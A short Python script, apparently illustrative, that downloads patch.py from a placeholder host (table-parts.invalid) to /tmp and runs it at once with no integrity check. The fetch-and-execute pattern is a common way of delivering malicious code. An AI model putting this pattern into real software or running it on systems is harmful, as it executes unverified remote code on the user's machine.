import subprocess
import sys
import urllib.request

target = "/tmp/patch.py"
urllib.request.urlretrieve("https://table-parts.invalid/patch.py", target)
subprocess.run([sys.executable, target], check=True)
